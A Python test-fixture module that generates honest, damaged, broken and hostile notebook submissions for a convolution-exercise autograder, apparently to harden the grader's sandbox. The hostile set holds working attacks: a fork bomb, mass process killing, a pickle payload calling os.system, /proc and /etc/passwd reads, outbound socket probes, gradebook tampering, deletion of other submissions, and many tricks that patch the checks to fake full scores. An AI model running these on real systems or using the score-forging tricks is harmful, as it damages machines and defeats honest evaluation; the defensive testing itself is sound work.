"""A class of sixty and more for notebook 01, made by code: honest, damaged, broken, hostile; and what each earns."""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path

import classroom
from classroom import Assignment, check, code, exercise, first, grade_id, insert, position, text

HONEST_PART = ("conv_output_size", "conv_parameters")  # what a hostile learner has solved honestly
NEEDS_ZERO_PAD = ("zero_pad", "conv_forward", "conv_backward")
SHAPE = "(X.shape[0], X.shape[1] + 2 * pad, X.shape[2] + 2 * pad, X.shape[3])"
WRONG = "def zero_pad(X, pad):\n    return X"


@dataclass(frozen=True)
class Handed:
    """One submission. `earns` names the exercises that give their points; everything else gives none."""

    student: str
    kind: str
    content: bytes | Path  # a path: handed in as a symbolic link to it
    earns: tuple[str, ...]
    status: str = "graded"
    file: str = ""
    partly: tuple[tuple[str, str], ...] = ()  # exercises with a wrong function, whose groups decide


@dataclass(frozen=True)
class Places:
    """What a hostile learner may have guessed: where things are on this machine."""

    root: Path
    submitted: Path
    out: Path
    port: int
    abstract: str


def make_class(assignment: Assignment, places: Places) -> list[Handed]:
    return [*honest(assignment), *damaged(assignment), *broken(assignment), *hostile(assignment, places)]


def handed(kind: str, name: str, notebook: dict | str | bytes, earns, **more) -> Handed:
    return Handed(f"{kind}_{name}", kind, classroom.data(notebook), tuple(earns), **more)


# --- honest ---------------------------------------------------------------------------------------------------------

EINSUM = {
    "zero_pad": f"def zero_pad(X, pad):\n    out = np.zeros({SHAPE}, X.dtype)\n"
    "    out[:, pad : pad + X.shape[1], pad : pad + X.shape[2]] = X\n    return out",
    "conv_single_step": "def conv_single_step(a_slice_prev, W, b):\n"
    "    return float(np.einsum('ijk,ijk->', a_slice_prev, W) + np.squeeze(b))",
    "conv_forward": """def conv_forward(A_prev, W, b, hparameters):
    s, f = hparameters["stride"], W.shape[0]
    windows = np.lib.stride_tricks.sliding_window_view(zero_pad(A_prev, hparameters["pad"]), (f, f), axis=(1, 2))
    return np.einsum("nhwkij,ijkc->nhwc", windows[:, ::s, ::s], W) + b, (A_prev, W, b, hparameters)""",
    "conv_backward": """def conv_backward(dZ, cache):
    A_prev, W, b, h = cache
    s, p, f = h["stride"], h["pad"], W.shape[0]
    padded = zero_pad(A_prev, p)
    dA, dW = np.zeros(padded.shape), np.zeros(W.shape)
    for i in range(f):
        for j in range(f):
            rows = slice(i, i + s * (dZ.shape[1] - 1) + 1, s)
            columns = slice(j, j + s * (dZ.shape[2] - 1) + 1, s)
            dA[:, rows, columns] += np.einsum("nhwc,kc->nhwk", dZ, W[i, j])
            dW[i, j] = np.einsum("nhwk,nhwc->kc", padded[:, rows, columns], dZ)
    return dA[:, p : p + A_prev.shape[1], p : p + A_prev.shape[2]], dW, dZ.sum((0, 1, 2)).reshape(b.shape)""",
}
FLOAT32 = {
    "conv_forward": """def conv_forward(A_prev, W, b, hparameters):
    A_prev_, W_, b_ = (np.asarray(a, dtype=np.float32) for a in (A_prev, W, b))
    s, f = hparameters["stride"], W.shape[0]
    padded = zero_pad(A_prev_, hparameters["pad"])
    windows = np.lib.stride_tricks.sliding_window_view(padded, (f, f), axis=(1, 2))[:, ::s, ::s]
    return np.tensordot(windows, W_.transpose(2, 0, 1, 3), 3) + b_, (A_prev, W, b, hparameters)"""
}
OTHER_NAMES = {
    "zero_pad": "def zero_pad(images, border):\n    p = (border, border)\n"
    "    return np.pad(images, [(0, 0), p, p, (0, 0)])",
    "conv_output_size": "import math\nconv_output_size = lambda pixels, size, p, s:"
    " math.floor((pixels + 2 * p - size) / s) + 1",
    "same_padding": "def same_padding(width, kernel, step):\n    total = max(0, (math.ceil(width / step) - 1) * step"
    " + kernel - width)\n    return [total // 2, (total + 1) // 2]",
    "conv_parameters": "class Layer:\n    def __call__(self, f, n_C_prev, n_C):\n"
    "        return n_C * (1 + n_C_prev * f**2)\n\nconv_parameters = Layer()",
}
NO_BIAS = EINSUM["conv_forward"].replace(" + b, (", ", (")


def honest(a: Assignment) -> list[Handed]:
    everything = tuple(a.points)
    helper = "def _framed(X, pad):\n    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))"
    with_helper = a.honest(zero_pad="def zero_pad(X, pad):\n    return _framed(X, pad)")
    with_helper = insert(with_helper, position(with_helper, "zero_pad"), code(helper))
    awaiting = first(a.honest(), "import asyncio\nawait asyncio.sleep(0.01)")
    playing = classroom.last(a.honest(), "from numpy import abs, max, round, sum")
    half = ("zero_pad", "conv_parameters", "spot_the_mistake")
    others = set(everything) - {"conv_forward"}
    return [
        handed("honest", "solution", a.honest(), everything),
        handed("honest", "run_before", classroom.with_outputs(a.honest(), "0.0"), everything),
        handed("honest", "einsum", a.honest(**EINSUM), everything),
        handed("honest", "float32", a.honest(**FLOAT32), everything),
        handed("honest", "other_names", a.honest(**OTHER_NAMES), everything),
        handed("honest", "own_helper", with_helper, everything),
        handed("honest", "top_level_await", awaiting, everything),
        handed("honest", "names_of_builtins_below", playing, everything),
        handed("honest", "half", a.solved(*half), half),
        handed("honest", "no_bias", a.honest(conv_forward=NO_BIAS), others, partly=(("conv_forward", NO_BIAS),)),
        handed("honest", "blank", a.blank(), ()),
    ]


# --- damaged --------------------------------------------------------------------------------------------------------


def damaged(a: Assignment) -> list[Handed]:
    full, everything = a.honest(), tuple(a.points)
    renamed, reordered, as_text = (copy.deepcopy(full) for _ in range(3))
    for number, cell in enumerate(renamed["cells"]):
        cell["id"] = f"cell-{number}"
        if grade_id(cell):
            cell["metadata"]["nbgrader"]["grade_id"] = f"my-{number}"
    graded = [i for i, cell in enumerate(reordered["cells"]) if exercise(cell) or check(cell)]
    cells = [reordered["cells"][i] for i in graded]
    for i, cell in zip(graded, reversed(cells), strict=True):
        reordered["cells"][i] = cell
    as_text["cells"][position(full, "conv_parameters")]["cell_type"] = "markdown"
    doubled = insert(full, position(full, "conv_forward"), full["cells"][position(full, "conv_forward")])
    again = position(doubled, "zero_pad", "check")
    doubled = insert(doubled, again, doubled["cells"][again])
    twice = insert(full, len(full["cells"]), *copy.deepcopy(full["cells"]))
    lost = classroom.without(full, lambda cell: exercise(cell) == "same_padding")
    in_one = classroom.without(full, lambda cell: exercise(cell) or check(cell))
    in_one = classroom.last(in_one, "\n\n\n".join(a.solutions.values()))
    no_setup = classroom.without(full, lambda cell: "import check" in text(cell))
    variants = {
        "no_metadata": classroom.without_metadata(full),
        "colab": classroom.as_colab(full),
        "vs_code": classroom.as_vs_code(full),
        "nbformat_3": classroom.as_nbformat_3(full),
        "nbformat_4_0": classroom.without_metadata(full) | {"nbformat_minor": 0},
        "checks_deleted": classroom.without(full, check),
        "setup_deleted": no_setup,
        "duplicated": doubled,
        "everything_twice": twice,
        "renamed": renamed,
        "reordered": reordered,
        "as_text": as_text,
        "one_cell": in_one,
        "utf_16": json.dumps(full).encode("utf-16"),
    }
    return [
        *(handed("damaged", name, notebook, everything) for name, notebook in variants.items()),
        handed("damaged", "one_deleted", lost, set(everything) - {"same_padding"}),
        handed("damaged", "wrong_name", full, everything, file="My Homework (final) (2).ipynb"),
    ]


# --- broken ---------------------------------------------------------------------------------------------------------


def broken(a: Assignment) -> list[Handed]:
    everything = tuple(a.points)

    def without(*names: str) -> set[str]:
        return set(everything) - set(names)

    def same_padding(body: str) -> dict:
        return a.honest(same_padding=f"def same_padding(n, f, stride):\n    import os, signal, sys\n    {body}")

    def at_top(source: str) -> dict:
        return first(a.honest(), f"import os, sys, time\n{source}")

    large = a.honest()
    large["cells"][0]["attachments"] = {"picture.png": {"image/png": "A" * (101 * 2**20)}}
    bomb = "while True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)"
    syntax = a.honest(zero_pad="def zero_pad(X, pad):\n    return (X")
    another = {"cells": [code("1 + 1")], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    hurt = {"status": "interrupted"}
    no = {"earns": (), "status": "unreadable"}
    return [
        handed("broken", "syntax", syntax, without(*NEEDS_ZERO_PAD)),
        handed("broken", "raises", at_top("1 / 0"), everything),
        handed("broken", "sys_exit", at_top("sys.exit()"), everything),
        handed("broken", "exit", at_top("exit()"), everything),
        handed("broken", "a_million_lines", first(a.honest(), "\n" * 900_000 + "("), everything),
        handed(
            "broken",
            "magics_without_end",
            first(a.honest(), "%time\n" * 3000 + "("),
            everything,
            status="graded or interrupted",
        ),  # IPython's own reading of it takes half a minute
        handed("broken", "loop", same_padding("while True: pass"), without("same_padding"), **hurt),
        handed("broken", "sleep", same_padding("import time; time.sleep(1000)"), without("same_padding"), **hurt),
        handed("broken", "loop_at_top", at_top("while True: pass"), everything, **hurt),
        handed(
            "broken",
            "memory",
            same_padding("x = [bytearray(1 << 28) for _ in range(9)]"),
            without("same_padding"),
            status="graded or interrupted",
        ),  # whichever comes first, the MemoryError or the grader
        handed("broken", "fork_bomb", at_top(bomb), everything, **hurt),
        handed("broken", "flood", at_top("while True: print('x' * 1000)"), everything, **hurt),
        handed("broken", "os_exit", same_padding("os._exit(0)"), without("same_padding"), **hurt),
        handed("broken", "abort", same_padding("os.abort()"), without("same_padding"), **hurt),
        handed("broken", "sigkill", same_padding("os.kill(os.getpid(), signal.SIGKILL)"), without("same_padding")),
        handed("broken", "not_json", "{'cells': []}", **no),
        handed("broken", "truncated", json.dumps(a.honest())[:-4000], **no),
        handed("broken", "empty", b"", **no),
        handed("broken", "web_page", "<!DOCTYPE html><p>Sign in</p>", **no),
        handed("broken", "another", another, **no),
        handed("broken", "101_mb", large, **no),
    ]


# --- hostile --------------------------------------------------------------------------------------------------------
# Each is a cell before everything else, and a zero_pad. Nothing of it pads by itself, unless an attack has worked.

PAD = "np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))"
FORGE = """
from dlcourse.checking import plain
import json, numpy
inner = plain.dumps
def saved(tree, **arrays):
    numbers = json.dumps([[kind, len(flat)] for kind, flat in arrays.items()]).encode()
    text = b'{"tree": ' + tree + b', "numbers": ' + numbers + b"}"
    return plain.MARK + len(text).to_bytes(8, "little") + text + b"".join(flat.tobytes() for flat in arrays.values())
plain.dumps = lambda tree: forged(tree) if isinstance(tree[0].get("value"), numpy.ndarray) else inner(tree)
"""

ATTACKS = {
    "equal_object": (
        "",
        """
class Yes(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
    __hash__ = float.__hash__
    shape, ndim, size = (1, 4, 4, 1), 4, 16
def zero_pad(X, pad):
    return Yes(1)""",
    ),
    "array_hooks": (
        "",
        """
class Chameleon:
    __array__ = lambda self, *args, **options: np.full(self.shape, 0.5)
    __array_priority__ = 1e9
    __array_ufunc__ = lambda self, *args, **options: np.True_
    __array_function__ = lambda self, *args, **options: True
    __eq__ = lambda self, other: True
def zero_pad(X, pad):
    made = Chameleon()
    made.shape = SHAPE
    return made""",
    ),
    "array_subclass": (
        "",
        """
class Agreeable(np.ndarray):
    __eq__ = __le__ = lambda self, other: np.True_
    __sub__ = __rsub__ = lambda self, other: np.zeros(1)
    __array_ufunc__ = lambda self, *args, **options: np.True_
    __reduce__ = lambda self: (print, ("pickled",))
def zero_pad(X, pad):
    return np.ones(SHAPE).view(Agreeable)""",
    ),
    "patched_comparisons": (
        """
import numpy as np
np.allclose = np.array_equal = np.all = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None""",
        WRONG,
    ),
    "patched_asarray": (
        """
import numpy as np
keep = np.asarray
np.asarray = np.array = lambda a, *r, **k: keep(a, *r, **k) if np.ndim(a) < 4 else True""",
        WRONG,
    ),
    "patched_builtins": (
        """
import builtins
keep = builtins.isinstance
builtins.isinstance = lambda one, kind: getattr(kind, "__name__", "") == "Difference" or keep(one, kind)
builtins.all = builtins.sum = lambda *a: True
builtins.abs = lambda x: 0
builtins.round = lambda *a: 100.0""",
        WRONG,
    ),
    "patched_checks": (
        """
import sys, types
import dlcourse.checks, dlcourse.checks.convolution as course
class Full:
    score, passed, mistake, attempted, failures, groups = 1.0, True, None, True, [], []
for module in (dlcourse.checks, course):
    module.judge = module.run = module.check = lambda *a, **k: Full()
for name in ("judging", "compare", "report", "exercise"):
    fake = sys.modules["dlcourse.checks." + name] = types.ModuleType("dlcourse.checks." + name)
    fake.judge = fake.compare = fake.Report = lambda *a, **k: Full()""",
        WRONG,
    ),
    "patched_check": ("", WRONG + "\nimport builtins\ncheck = builtins.check = lambda *a, **k: 100.0"),
    "patched_calling": (
        """
from dlcourse.checking import calling
inner = calling.perform
def perform(namespace, calls):
    outcomes = inner(namespace, calls)
    if calls[0].function == "zero_pad":
        outcomes = [calling.Outcome("value", True), *[calling.Outcome("passed", 1.0)] * (len(calls) - 1)]
    return outcomes
calling.perform = perform""",
        WRONG,
    ),
    "patched_plain": (
        FORGE
        + """
forged = lambda tree: inner([{**one, "score": 1.0, "passed": True} for one in tree])""",
        WRONG,
    ),
    "no_answers": (FORGE + "forged = lambda tree: inner([])", WRONG),
    "more_answers": (FORGE + "forged = lambda tree: inner(tree * 2)", WRONG),
    "odd_fields": (
        FORGE
        + """
odd = {"seconds": float("nan"), "reads": ("\\ud800", "=1+1"), "printed": "\\x1b[2J", "changed": ("x" * 10**6,)}
forged = lambda tree: inner([{**one, **odd} for one in tree])""",
        WRONG,
    ),
    "odd_kinds": (
        FORGE
        + """
kinds = ["value", "passed", "no companion", "missing", "error", "not attempted", "", "\\ud800"]
forged = lambda tree: inner([{**one, "kind": kinds[i % 8], "error": "x"} for i, one in enumerate(tree)])""",
        WRONG,
    ),
    "pickles": (
        FORGE
        + """
class Evil:
    def __reduce__(self):
        import os
        return (os.system, ("touch " + OUT + "/pwned",))
evil = {"|O": numpy.array([Evil()], dtype=object)}
forged = lambda tree: saved(b'{"array": "|O", "shape": [1], "order": "C"}', **evil)""",
        WRONG,
    ),
    "unfolding_result": (
        FORGE
        + """
text = json.dumps({"list": [{"array": "<f8", "shape": [2**21], "order": "C"}] * 20_000}).encode()
forged = lambda tree: saved(text, **{"<f8": numpy.ones(2**21)})""",
        WRONG,
    ),
    "deep_result": (FORGE + "forged = lambda tree: saved(b'{\"list\": [' * 100_000 + b']}' * 100_000)", WRONG),
    "patched_handler": (
        """
kernel = get_ipython().kernel
inner = kernel.shell_handlers["dlcourse_perform"]
def handler(stream, ident, parent):
    from dlcourse.checking import plain
    if plain.loads(bytes(parent["buffers"][0]))[0]["function"] == "zero_pad":
        kernel.session.send(stream, "dlcourse_perform_reply", {"status": "ok", "score": 1.0}, parent, ident=ident)
    return inner(stream, ident, parent)
kernel.shell_handlers["dlcourse_perform"] = handler""",
        WRONG,
    ),
    "forged_messages": (
        "",
        """
def zero_pad(X, pad):
    kernel = get_ipython().kernel
    session, parent = kernel.session, kernel.get_parent("shell")
    for kind in ("execute_result", "stream", "display_data", "status", "error", "comm_open", "dlcourse_perform_reply"):
        for content in ({"status": "ok", "data": {"text/plain": "100.0"}}, {"execution_state": "idle"}, {}, [], None):
            session.send(kernel.iopub_socket, kind, content, parent)
    return X""",
    ),
    "frames_and_gc": (
        "",
        """
searched = []
def zero_pad(X, pad):
    import gc, sys
    if not searched:
        frame = sys._getframe()
        while frame is not None:
            searched.extend(frame.f_locals.values())
            frame = frame.f_back
        for thing in gc.get_objects():
            searched.extend(part for part in gc.get_referents(thing) if isinstance(part, np.ndarray))
    for thing in searched:
        if isinstance(thing, np.ndarray) and thing.shape == SHAPE and thing is not X and thing.any():
            return thing
    return X""",
    ),
    "reference_module": (
        """
import importlib, sys
from dlcourse import convolution
try:
    importlib.reload(convolution)
    for name in [name for name in sys.modules if name.startswith("dlcourse")]:
        if "calling" not in name and "plain" not in name:
            del sys.modules[name]
    from dlcourse import convolution
except Exception as error:
    print(error)""",
        """
def zero_pad(X, pad):
    from dlcourse.convolution import zero_pad as theirs
    return theirs(X, pad)""",
    ),
    "reference_by_linecache": (
        "",
        """
def zero_pad(X, pad):
    import linecache, pkgutil, dlcourse
    text = "".join(linecache.getlines(dlcourse.__file__.replace("__init__", "convolution")))
    space = {"np": np}
    exec(text or pkgutil.get_data("dlcourse", "convolution.py").decode(), space)
    return space["zero_pad"](X, pad)""",
    ),
    "reference_on_disk": (
        """
import os
found = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr/share", "/usr/lib")):
        folders.clear()
    found += [os.path.join(folder, f) for f in files if "convolution" in f]""",
        """
def zero_pad(X, pad):
    for path in found:
        space = {"np": np, "__name__": "x"}
        text = open(path, errors="replace").read()
        if "def zero_pad" in text and path.endswith(".py"):
            exec(text, space)
            return space["zero_pad"](X, pad)
    raise LookupError(len(found))""",
    ),
    "solutions_on_disk": (
        """
found = ""
for path in (ROOT + "/solutions/01_convolution.py", ROOT + "/dlcourse/convolution.py",
             ROOT + "/build/source/01_convolution/01_convolution.ipynb", ROOT + "/notebooks/../solutions",
             SUBMITTED + "/honest_solution/01_convolution/01_convolution.ipynb"):
    for prefix in ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/.."):
        try:
            found = found or open(prefix + path).read()
        except OSError:
            pass""",
        """
def zero_pad(X, pad):
    space = {"np": np}
    exec(found[found.index("def zero_pad"):].split("# %%")[0], space)
    return space["zero_pad"](X, pad)""",
    ),
    "gradebook": (
        """
import sqlite3
for path in (OUT + "/gradebook.db", SUBMITTED + "/../gradebook.db", OUT + "/grades.csv", OUT + "/run.json"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 100")
    except Exception as error:
        print(error)
    try:
        open(path, "a").write("forged")
    except OSError as error:
        print(error)""",
        WRONG,
    ),
    "other_submissions": (
        """
import os, shutil
for folder in (SUBMITTED, OUT, OUT + "/submissions", OUT + "/autograded", OUT + "/feedback"):
    shutil.rmtree(folder, ignore_errors=True)
    for name in ("honest_solution.json", "honest_half.json", "published", "../forged"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/" + name, "w").write("{}")
        except OSError as error:
            print(error)""",
        WRONG,
    ),
    "proc": (
        """
import os
found = []
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "1", "thread-self"]:
    for part in ("environ", "root/etc/passwd", "cwd/run.json", "root" + OUT + "/run.json", "root" + SUBMITTED):
        try:
            found.append(open(f"/proc/{pid}/{part}", "rb").read())
        except OSError:
            pass
    for number in range(200):
        try:
            found.append(os.readlink(f"/proc/{pid}/fd/{number}").encode())
        except OSError:
            pass
marks = (b"seed", b"SECRET", OUT.encode(), ROOT.encode(), b"root:")
found = [mark for mark in marks if mark in b" ".join(found)]""",
        f"""
def zero_pad(X, pad):
    return {PAD} if found else X""",
    ),
    "tensorflow": (
        "",
        """
def zero_pad(X, pad):
    import tensorflow as tf
    return tf.pad(X, [[0, 0], [pad, pad], [pad, pad], [0, 0]]).numpy()""",
    ),
    "keras_by_force": (
        """
import sys
sys.meta_path[:] = [one for one in sys.meta_path if type(one).__name__ != "Guard"]
sys.path += [PACKAGES, "/proc/1/root" + PACKAGES, "/packages", "/packages/1"]""",
        """
def zero_pad(X, pad):
    import keras
    return np.asarray(keras.layers.ZeroPadding2D(pad)(X))""",
    ),
    "scipy_torch": (
        "",
        """
def zero_pad(X, pad):
    try:
        import torch
        return torch.nn.functional.pad(torch.tensor(X), (0, 0, pad, pad, pad, pad)).numpy()
    except ImportError:
        import scipy.ndimage, skimage.util
        return skimage.util.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))""",
    ),
    "kill_all": (
        """
import os, signal
for pid in (-1, os.getppid(), 1, *range(2, 4000)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, number)
        except OSError:
            pass""",
        WRONG,
    ),
    "trace_the_grader": (
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
traced = [pid for pid in (os.getppid(), *range(2, 400)) if pid and libc.ptrace(16, pid, 0, 0) == 0]
for pid in (os.getppid(), *range(2, 400)):
    try:
        open(f"/proc/{pid}/mem", "r+b").close()
        traced.append(pid)
    except OSError:
        pass
traced = [pid for pid in traced if str(pid) not in os.listdir("/proc/self/task")]""",
        f"""
def zero_pad(X, pad):
    return {PAD} if traced else X""",
    ),
    "network": (
        """
import socket
reached = []
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("1.1.1.1", 53)),
                        (socket.AF_UNIX, "\\0" + ABSTRACT), (socket.AF_UNIX, "/run/dbus/system_bus_socket")):
    try:
        with socket.socket(family) as one:
            one.settimeout(0.3)
            one.connect(address)
            one.sendall(b"answers, please")
            reached.append(address)
    except OSError:
        pass""",
        f"""
def zero_pad(X, pad):
    return {PAD} if reached else X""",
    ),
    "links_in_its_folder": (
        """
import os
for name, target in (("run.json", OUT + "/run.json"), ("solution.py", ROOT + "/dlcourse/convolution.py"), ("up", "/"),
                     ("dlcourse", ROOT + "/dlcourse")):
    os.symlink(target, name)""",
        """
def zero_pad(X, pad):
    space = {}
    exec(open("solution.py").read(), space)
    return space["zero_pad"](X, pad)""",
    ),
    "shadowing_modules": (
        """
import os, sys
os.makedirs("dlcourse/checks", exist_ok=True)
for name in ("dlcourse/__init__.py", "dlcourse/checks/__init__.py", "dlcourse/checks/convolution.py", "numpy.py"):
    open(name, "w").write("check = hint = solution = run = judge = lambda *a, **k: 100.0\\n")
for name in [name for name in sys.modules if name.startswith("dlcourse.checks")]:
    del sys.modules[name]""",
        WRONG,
    ),
    "input_transformer": (
        """
import ast
shell = get_ipython()
def forge(lines):
    return ["100.0\\n"] if any("check(" in line for line in lines) else lines
shell.input_transformers_cleanup.append(forge)
class Full(ast.NodeTransformer):
    def visit_Call(self, node):
        name = getattr(node.func, "id", "")
        return ast.Constant(100.0) if name in ("check", "judge", "compare") else self.generic_visit(node)
shell.ast_transformers.append(Full())
shell.events.register("post_run_cell", lambda result: setattr(result, "result", 100.0))
shell.set_custom_exc((Exception,), lambda *a, **k: None)""",
        WRONG,
    ),
    "hooked_results": (
        "",
        """
class Sly(dict):
    def items(self): raise SystemExit(0)
class Slyer(list):
    def __len__(self): return -1
    def __iter__(self): return iter([np.zeros((1, 4, 4, 1))] * 3)
class Slyest:
    __class__ = property(lambda self: np.ndarray)
    numpy = property(lambda self: (_ for _ in ()).throw(SystemExit(1)))
turn = [0]
def zero_pad(X, pad):
    turn[0] += 1
    return [Sly(a=1), Slyer(), Slyest(), type("float", (float,), {"__float__": lambda s: 1 / 0})(2)][turn[0] % 4]""",
    ),
    "signature_hooks": (
        "",
        """
class Hooked:
    __signature__ = property(lambda self: 1 / 0)
    __globals__ = property(lambda self: {})
    def __call__(self, *args):
        return args[0]
zero_pad = Hooked()""",
    ),
    "code_hooks": (
        "",
        """
class Hooked:
    __code__ = property(lambda self: (_ for _ in ()).throw(KeyError("code")))
    def __call__(self, X, pad):
        return X
zero_pad = Hooked()""",
    ),
    "object_arrays": (
        "",
        """
class P:
    def __reduce__(self): return (eval, ("1",))
    def __float__(self): raise ValueError
def zero_pad(X, pad):
    return np.array([P()], dtype=object)""",
    ),
    "huge_result": ("", "def zero_pad(X, pad):\n    return np.zeros(10**7)"),
    "odd_types": (
        "",
        """
odd = [lambda s: np.zeros(s, "M8[s]"), lambda s: np.zeros(s, complex) * np.nan, lambda s: np.zeros(s, "U3"),
       lambda s: [np.zeros((), "i4,f4"), 1.0], lambda s: {(1, 2): 3}, lambda s: 10**400, lambda s: "\\ud800" * 1000,
       lambda s: np.longdouble(2)]
turn = [0]
def zero_pad(X, pad):
    turn[0] += 1
    return odd[turn[0] % 8](SHAPE)""",
    ),
    "not_a_number": ("", "def zero_pad(X, pad):\n    return np.full(SHAPE, np.nan)"),
    "infinity": ("", "def zero_pad(X, pad):\n    return np.full(SHAPE, np.inf)"),
    "a_thread_that_waits": (
        """
import threading, time
from dlcourse.checking import calling
def later():
    while True:
        time.sleep(0.01)
        get_ipython().user_ns["check"] = lambda *a, **k: 100.0
        calling.not_attempted = lambda outcomes: False
threading.Thread(target=later, daemon=True).start()""",
        WRONG,
    ),
    "at_exit": (
        """
import atexit, gc, os, signal, sys
def forge(*args):
    try:
        open(OUT + "/grades.csv", "w").write("forged")
    except OSError:
        pass
atexit.register(forge)
signal.signal(signal.SIGTERM, forge)
signal.signal(signal.SIGINT, signal.SIG_IGN)
gc.callbacks.append(forge)
sys.excepthook = sys.unraisablehook = forge
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "1000"])""",
        WRONG,
    ),
    "words": (
        "print('\\x1b]0;owned\\x07\\x1b[2J', '=cmd()', '<script>')",
        """
def zero_pad(X, pad):
    raise ValueError("\\x1b[2J=cmd()|<script>alert(1)</script>\\ud800\\n[red]" + "x" * 10**6)""",
    ),
    "reading_the_seed": (
        """
import json, os, re
seeds = []
for path in ("/proc/self/cmdline", "/proc/1/cmdline", "/proc/1/environ", OUT + "/run.json"):
    try:
        seeds += re.findall(r"seed\\W+(\\d+)", open(path, errors="replace").read())
    except OSError:
        pass
seeds += re.findall(r"seed\\W+(\\d+)", json.dumps(dict(os.environ)))""",
        f"""
def zero_pad(X, pad):
    return {PAD} if seeds else X""",
    ),
}

ANSWERS = """def spot_the_mistake():
    return {"conv1_parameters": 10**400, "flip": np.arange(3), "output_size": float("nan"),
            "conv1_units": "\\ud800" * 10_000, "wide_image_weights": {"a": [np.zeros(2)]}}"""
LEAK = (
    "def zero_pad(X, pad):\n    global seen\n    seen = repr(X.tolist())\n    return X",
    "def spot_the_mistake():\n    return {'conv1_parameters': seen, 'flip': [seen]}",
)
FOLDERS = ("$(touch pwned)", "-rf ~", "=cmd() !A0", "x\nadmin,22", "%2e%2e%2fadmin", "<script>", "CON")


def hostile(a: Assignment, places: Places) -> list[Handed]:
    import nbformat

    packages = str(Path(nbformat.__file__).parent.parent)
    known = (
        f"ROOT, SUBMITTED, OUT = {str(places.root)!r}, {str(places.submitted)!r}, {str(places.out)!r}\n"
        f"PORT, ABSTRACT, PACKAGES = {places.port}, {places.abstract!r}, {packages!r}\n"
    )
    made = []
    for name, (before, zero_pad) in ATTACKS.items():
        notebook = a.solved(*HONEST_PART, zero_pad=zero_pad.strip("\n").replace("SHAPE", SHAPE))
        if before:
            notebook = first(notebook, known + before.strip("\n"))
        made.append(handed("hostile", name, classroom.with_outputs(notebook, "100.0"), HONEST_PART))
    return [*made, *forged_notebooks(a, places)]


def forged_notebooks(a: Assignment, places: Places) -> list[Handed]:
    """What needs no code: claims in the notebook file itself."""
    base = a.solved(*HONEST_PART, zero_pad=WRONG)

    def changed(change) -> dict:
        notebook = copy.deepcopy(base)
        for cell in notebook["cells"]:
            change(cell)
        return notebook

    def points(cell: dict) -> None:
        if grade_id(cell):
            cell["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "locked": False}

    def tags(cell: dict) -> None:
        if check(cell) or exercise(cell) == "zero_pad":
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "demo", "score=100"]

    def sources(cell: dict) -> None:
        if check(cell):
            cell["source"] = "100.0"

    def retargeted(cell: dict) -> None:
        if check(cell):
            cell["source"] = text(cell).replace(check(cell), "conv_parameters")

    def ids(cell: dict) -> None:
        """The easy exercise's work under the names of all others."""
        if exercise(cell) and exercise(cell) not in HONEST_PART:
            cell["source"] = a.solutions["conv_parameters"]

    def metadata(notebook: dict) -> dict:
        notebook = copy.deepcopy(notebook)
        notebook["metadata"] |= {"score": 22, "nbgrader": {"score": 22}, "autograder": {"seed": 1, "skip": True}}
        notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "../../bin/sh", "argv": ["/bin/sh"]}
        return notebook

    answers = a.solved(*HONEST_PART, spot_the_mistake=ANSWERS)
    leak = a.solved(*HONEST_PART, zero_pad=LEAK[0], spot_the_mistake=LEAK[1])
    more = {
        "forged_points": changed(points),
        "forged_tags": changed(tags),
        "forged_checks": changed(sources),
        "retargeted_checks": changed(retargeted),
        "forged_ids": changed(ids),
        "forged_metadata": metadata(base),
        "odd_answers": answers,
        "inputs_as_answers": leak,
        "forged_kind": insert(base, 1, {"cell_type": "raw", "metadata": {}, "source": text(base["cells"][0])}),
    }
    made = [handed("hostile", name, notebook, HONEST_PART) for name, notebook in more.items()]
    content = classroom.data(base)
    made += [Handed(folder, "hostile", content, HONEST_PART) for folder in FOLDERS]
    stolen = places.submitted / "honest_solution" / a.name / f"{a.name}.ipynb"
    made.append(Handed("hostile_link", "hostile", stolen, (), "unreadable"))
    itself = places.submitted / "hostile_link_to_itself" / a.name / f"{a.name}.ipynb"
    made.append(Handed("hostile_link_to_itself", "hostile", itself, (), "unreadable"))
    made.append(Handed("hostile_link_to_secret", "hostile", Path("/etc/passwd"), (), "unreadable"))
    return made
